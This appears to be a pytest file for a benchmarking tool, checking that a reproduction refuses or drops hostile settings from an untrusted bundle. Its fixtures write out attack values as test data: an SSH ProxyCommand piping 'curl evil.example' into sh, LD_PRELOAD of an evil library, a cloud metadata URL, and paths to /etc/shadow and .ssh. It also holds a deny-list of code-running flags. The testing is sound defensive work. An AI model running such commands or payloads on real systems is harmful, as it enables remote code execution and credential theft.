"""The plan a reproduction runs: the bundle's workload and vetted flags, the maintainer's machine.

The bundle's servers below ask for everything a hostile plan can: ssh hosts through a ProxyCommand,
an environment that preloads a library, its own interpreter, an endpoint of its choosing, an image
by tag. None of it may reach the plan that runs; what the maintainer names does."""

from __future__ import annotations

from pathlib import Path

import pytest

from byog.core.errors import UsageError
from byog.plans.expand import expand_plan
from byog.plans.load import parse_plan
from byog.plans.subset import Overrides, Selection, reproduction_plan

PLAN = """\
name: hostile
model: {path: builtin:smollm2-135m-instruct, max_model_len: 2048, tokenizer: /home/maintainer/secrets}
servers:
  candidate:
    runtime: local
    args: [--enforce-eager, --max-num-seqs, "8"]
    env: {LD_PRELOAD: /tmp/evil.so, PYTHONPATH: /tmp/evil}
    python: /tmp/evil/python
    tensor_parallel_size: 2
    additional_config: {decode_backend: latency_specialized}
  baseline:
    runtime: endpoint
    url: http://169.254.169.254/latest
    args: [--enforce-eager]
baseline: baseline
workloads:
  - {kind: batch, name: decode, batch_sizes: [1, 2], isl: [16], osl: [16], waves: 2}
numerics: {random_prompts: 1, random_isl: 16, dataset_prompts: 0, max_tokens: 4}
"""
SSH = """\
  remote:
    runtime: ssh
    nodes: 2
    hosts: [a@node0, a@node1]
    ssh_options: ["-oProxyCommand=sh -c 'curl evil.example | sh'"]
"""
DIGEST = "sha256:" + "ab" * 32


def _plan(extra_servers: str = "", model: str | None = None):
    text = PLAN.replace("  baseline:\n    runtime: endpoint", f"{extra_servers}  baseline:\n    runtime: endpoint", 1)
    if model:
        text = text.replace("builtin:smollm2-135m-instruct", model, 1)
    return parse_plan(text, "plan")


@pytest.fixture(autouse=True)
def _no_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "config" / "byog" / "config"


def test_nothing_of_where_and_how_comes_from_the_bundle() -> None:
    plan = reproduction_plan(_plan(), Overrides())
    candidate, baseline = plan.servers["candidate"], plan.servers["baseline"]
    assert candidate.runtime == baseline.runtime == "local"  # the bundle's endpoint URL is never contacted
    assert candidate.env == {} and candidate.python is None and not hasattr(baseline, "url")
    assert plan.model.tokenizer is None
    # what is measured stays the bundle's
    assert candidate.args == ["--enforce-eager", "--max-num-seqs", "8"] and candidate.tensor_parallel_size == 2
    assert candidate.additional_config == {"decode_backend": "latency_specialized"}
    assert plan.numerics is not None and [w.name for w in plan.workloads] == ["decode"]


def test_the_maintainer_names_runtime_image_hosts_env_and_python() -> None:
    overrides = Overrides(
        images=[f"candidate=vllm/vllm-openai@{DIGEST}"],
        endpoints=["baseline=http://gpu-b:8000"],
        env=["candidate=VLLM_CPU_KVCACHE_SPACE=1", "HF_HUB_OFFLINE=1"],
        server_args=["--max-model-len=1024"],
    )
    plan = reproduction_plan(_plan(), overrides)
    candidate, baseline = plan.servers["candidate"], plan.servers["baseline"]
    assert (candidate.runtime, candidate.image) == ("docker", f"vllm/vllm-openai@{DIGEST}")
    assert candidate.env == {"VLLM_CPU_KVCACHE_SPACE": "1", "HF_HUB_OFFLINE": "1"}
    assert candidate.args[-1] == "--max-model-len=1024"
    assert (baseline.runtime, baseline.url) == ("endpoint", "http://gpu-b:8000")

    remote = reproduction_plan(
        _plan(SSH),
        Overrides(hosts=["remote=me@gpu0", "remote=me@gpu1"], ssh_options=["-i", "/keys/tray"], pythons=["/opt/py"]),
    ).servers["remote"]
    assert (remote.runtime, remote.hosts, remote.ssh_options) == ("ssh", ["me@gpu0", "me@gpu1"], ["-i", "/keys/tray"])
    assert remote.python == "/opt/py"


def test_a_server_on_the_bundles_hosts_is_refused_in_one_sentence() -> None:
    with pytest.raises(UsageError) as err:
        reproduction_plan(_plan(SSH), Overrides())
    message = str(err.value)
    assert (
        message.startswith("server 'remote' of the bundle runs on other hosts (a@node0, a@node1)")
        and "\n" not in message
    )
    assert "ProxyCommand" in message and "--host remote=HOST for each of its 2 nodes" in message


def test_an_image_runs_only_when_the_maintainer_names_or_allows_it() -> None:
    def docker(image: str) -> str:
        return f"  boxed:\n    runtime: docker\n    image: '{image}'\n"

    with pytest.raises(
        UsageError, match="^server 'boxed' of the bundle runs image 'evil.example/vllm:latest', which is not pinned"
    ):
        reproduction_plan(_plan(docker("evil.example/vllm:latest")), Overrides())
    pinned = f"vllm/vllm-openai@{DIGEST}"
    with pytest.raises(UsageError, match="not pinned by a digest you allow"):
        reproduction_plan(_plan(docker(pinned)), Overrides())  # pinned, but not on the maintainer's list
    allowed = reproduction_plan(_plan(docker(pinned)), Overrides(allowed_image_digests=[DIGEST])).servers["boxed"]
    assert (allowed.runtime, allowed.image) == ("docker", pinned)
    named = reproduction_plan(_plan(docker("evil.example/vllm:latest")), Overrides(images=["boxed=mine:1"]))
    assert named.servers["boxed"].image == "mine:1"


def test_a_bundles_flag_that_runs_code_is_refused_unless_allowed() -> None:
    plan = _plan(model=None)
    hostile = plan.model_copy(
        update={
            "servers": {
                **plan.servers,
                "candidate": plan.servers["candidate"].model_copy(update={"args": ["--trust-remote-code"]}),
            }
        }
    )
    with pytest.raises(UsageError, match="^server 'candidate' of the bundle passes --trust-remote-code"):
        reproduction_plan(hostile, Overrides())
    allowed = reproduction_plan(hostile, Overrides(allow_flags=["--trust-remote-code"]))
    assert allowed.servers["candidate"].args == ["--trust-remote-code"]


def test_a_model_other_than_the_builtin_is_the_maintainers() -> None:
    with pytest.raises(
        UsageError, match="^the bundle serves model '/home/maintainer/.ssh', and byog reproduce loads only"
    ):
        reproduction_plan(_plan(model="/home/maintainer/.ssh"), Overrides())
    plan = reproduction_plan(_plan(model="/home/maintainer/.ssh"), Overrides(model_path="org/model"))
    assert plan.model.path == "org/model"
    only_endpoints = Overrides(endpoints=["candidate=http://a:1", "baseline=http://b:1"])
    assert reproduction_plan(_plan(model="org/named"), only_endpoints).model.path == "org/named"  # nothing loads it


def test_the_maintainers_config_file_gives_defaults(_no_config: Path) -> None:
    _no_config.parent.mkdir(parents=True)
    _no_config.write_text(
        f"[reproduce]\nimage = vllm/vllm-openai@{DIGEST}\nenv = HF_HUB_OFFLINE=1\nallow_flags = --trust-remote-code\n"
        "allowed_image_digests = sha256:cd\n"
    )
    overrides = Overrides.from_config(env=["X=1"])
    assert overrides.images == [f"vllm/vllm-openai@{DIGEST}"] and overrides.env == ["HF_HUB_OFFLINE=1", "X=1"]
    assert overrides.allow_flags == ["--trust-remote-code"] and overrides.allowed_image_digests == ["sha256:cd"]
    assert Overrides.from_config(images=["mine:1"]).images == ["mine:1"]  # the command line wins
    plan = reproduction_plan(_plan(), overrides)
    assert {s.runtime for s in plan.servers.values()} == {"docker"}


def test_restrict_then_apply_keeps_the_numerics_pair() -> None:
    plan = reproduction_plan(_plan(), Overrides(), Selection(["decode-b1-isl16-osl16"], ["candidate", "baseline"], 0))
    assert plan.comparisons == [("candidate", "baseline")] and plan.numerics is not None


def _with_numerics(section: str):
    """The plan with ``section`` (e.g. ``control: {...},``) in its numerics."""
    text = PLAN.replace("numerics: {random_prompts: 1,", "numerics: {" + section + " random_prompts: 1,")
    return parse_plan(text, "plan")


@pytest.mark.parametrize(
    ("section", "refusal"),
    [
        (
            "control: {args: [--trust-remote-code]},",
            "the bundle's numerics.control passes --trust-remote-code, which runs Python code",
        ),
        ("control: {args: [--worker-cls, evil.W]},", "the bundle's numerics.control passes --worker-cls"),
        ("control: {args: [--chat-template, /etc/shadow]},", "the bundle's numerics.control passes --chat-template"),
        ("envelope_variant: {args: [--middleware, m]},", "the bundle's numerics.envelope_variant passes --middleware"),
        (
            "envelope_variant: {args: ['--kv-transfer-config={}']},",
            "the bundle's numerics.envelope_variant passes --kv-transfer-config",
        ),
        ("envelope_variant: {args: [--tokenizer, /x]},", "the bundle's numerics.envelope_variant passes --tokenizer"),
        (
            "control: {env: {LD_PRELOAD: /tmp/e.so}},",
            "the bundle's numerics.control sets LD_PRELOAD in the environment",
        ),
        ("control: {env: {PYTHONPATH: /tmp}},", "the bundle's numerics.control sets PYTHONPATH in the environment"),
        ("envelope_variant: {env: {HF_ENDPOINT: x}},", "the bundle's numerics.envelope_variant sets HF_ENDPOINT"),
    ],
)
def test_a_numerics_stock_change_passes_the_same_allowlist(section: str, refusal: str) -> None:
    with pytest.raises(UsageError) as err:
        reproduction_plan(_with_numerics(section), Overrides())
    assert str(err.value).startswith(refusal) and "\n" not in str(err.value)


def test_an_allowed_stock_change_reaches_the_derived_server() -> None:
    from byog.plans.numerics_roles import derived_servers

    plan = _with_numerics("control: {args: [--trust-remote-code], env: {LD_PRELOAD: /x.so}},")
    allow = ["--trust-remote-code", "numerics.control.env.LD_PRELOAD", "numerics.control"]
    built = reproduction_plan(plan, Overrides(allow_flags=allow))
    assert built.numerics is not None and built.numerics.control.args == ["--trust-remote-code"]
    assert derived_servers(built)["baseline.control"].env == {"LD_PRELOAD": "/x.so"}  # only because it was allowed


def test_a_custom_stock_change_runs_only_when_the_maintainer_allows_the_field() -> None:
    plan = _with_numerics("control: {args: [--max-num-seqs, '8']},")
    with pytest.raises(UsageError, match=r"numerics.control is a custom change .* \(--allow-flag numerics.control\)$"):
        reproduction_plan(plan, Overrides())
    built = reproduction_plan(plan, Overrides(allow_flags=["numerics.control"]))
    assert built.numerics is not None and built.numerics.control.args == ["--max-num-seqs", "8"]  # type: ignore[union-attr]


def test_a_menu_name_needs_no_permission() -> None:
    built = reproduction_plan(_with_numerics("control: fp8-kv,"), Overrides())
    assert built.numerics is not None and built.numerics.control == "fp8-kv"


EVALS = "evals:\n  - {task: gsm8k, limit: 10, passes: 2, gen_kwargs: GEN}\nseeds: [1, 2]\n"


def _with_eval(gen: str, task: str = "gsm8k"):
    return parse_plan(PLAN + EVALS.replace("GEN", gen).replace("gsm8k", task), "plan")


@pytest.mark.parametrize(
    ("gen", "refusal"),
    [
        ("{logits_processors: [evil.P]}", "the bundle's eval 'gsm8k' sets gen_kwargs.logits_processors, which is not"),
        ("{extra_body: {x: 1}}", "the bundle's eval 'gsm8k' sets gen_kwargs.extra_body, which is not"),
        ("{response_format: {type: json}}", "the bundle's eval 'gsm8k' sets gen_kwargs.response_format"),
        ("{until: [{a: b}]}", "the bundle's eval 'gsm8k' sets gen_kwargs.until to something other than a few stop"),
        ("{max_gen_toks: '9; x'}", "the bundle's eval 'gsm8k' sets gen_kwargs.max_gen_toks to something other"),
    ],
)
def test_gen_kwargs_outside_the_sampling_settings_are_refused(gen: str, refusal: str) -> None:
    with pytest.raises(UsageError) as err:
        reproduction_plan(_with_eval(gen), Overrides(), Selection([], ["candidate", "baseline"], 3))
    assert str(err.value).startswith(refusal) and "\n" not in str(err.value)


def test_sampling_settings_are_kept_and_one_pass_runs() -> None:
    gen = '{temperature: 0.6, top_p: 0.95, do_sample: true, until: ["\\n\\n"], max_gen_toks: 64}'
    (spec,) = reproduction_plan(_with_eval(gen), Overrides(), Selection([], ["candidate", "baseline"], 3)).evals
    assert spec.gen_kwargs == {
        "temperature": 0.6,
        "top_p": 0.95,
        "do_sample": True,
        "until": ["\n\n"],
        "max_gen_toks": 64,
    }
    assert (spec.limit, spec.passes) == (3, 1)


def test_an_eval_task_outside_byogs_registry_is_refused() -> None:
    with pytest.raises(UsageError, match="^the bundle's eval task '/etc/passwd' is not in byog's registry"):
        reproduction_plan(
            _with_eval("{}", task="/etc/passwd"), Overrides(), Selection([], ["candidate", "baseline"], 3)
        )


def test_the_bundles_description_and_free_text_are_not_copied() -> None:
    plan = _plan().model_copy(update={"description": "[click](https://evil.example)"})
    built = reproduction_plan(plan, Overrides(), Selection(["decode-b1-isl16-osl16"], ["candidate", "baseline"], 0))
    assert built.description == "a reproduction of hostile: decode-b1-isl16-osl16"
    assert [p.point_id for p in expand_plan(built)] == ["decode-b1-isl16-osl16"]  # ids pair with the original's


PAIRED = """\
name: paired
model: {path: builtin:smollm2-135m-instruct, weights_gib: 0.3}
servers:
  candidate: {runtime: local, args: [--enforce-eager], env: {VLLM_X: "1"}}
  baseline: {runtime: local, args: []}
baseline: baseline
pairs:
  - {candidate: candidate, baseline: baseline, interleave: true}
workloads:
  - {kind: batch, name: decode, batch_sizes: [1], isl: [16], osl: [16], waves: 2}
evals:
  - {task: arithmetic_generated, limit: 8, passes: 3, servers: [candidate, baseline]}
seeds: [1, 2, 3]
"""


def test_every_maintainer_owned_field_the_bundle_set_is_listed_as_dropped() -> None:
    """No field leaves silently: the census lists pairs[].interleave, evals[].passes and the model's
    size beside the fields that have an option to keep them (env)."""
    from byog.plans.subset import dropped

    bundle = parse_plan(PAIRED, "plan")
    built = reproduction_plan(bundle, Overrides(), Selection([], ["candidate", "baseline"], 3))
    found = {(d.server, d.what): d.value for d in dropped(bundle, built)}
    assert found[(None, "pairs[0].interleave")] == "true"
    assert found[(None, "evals[0].passes")] == "3"
    assert found[(None, "model.weights_gib")] == "0.3"
    assert found[("candidate", "env")] == "1"  # once, with its option (not again from the census)
    assert len(found) == 4


def test_a_bundles_python_is_never_run_and_the_dropped_line_asks_for_yours() -> None:
    from byog.plans.subset import NEVER_RUN_PYTHON, dropped

    bundle = _plan()
    built = reproduction_plan(bundle, Overrides())
    assert built.servers["candidate"].python is None  # launched: byog's own Python, not /tmp/evil/python
    [python] = [d for d in dropped(bundle, built) if d.what == NEVER_RUN_PYTHON]
    assert (python.server, python.value) == ("candidate", "/tmp/evil/python")
    assert python.keep() == "--python candidate=YOUR_PYTHON"

    mine = reproduction_plan(bundle, Overrides(pythons=["candidate=/opt/venv"])).servers["candidate"]
    assert mine.python == "/opt/venv"
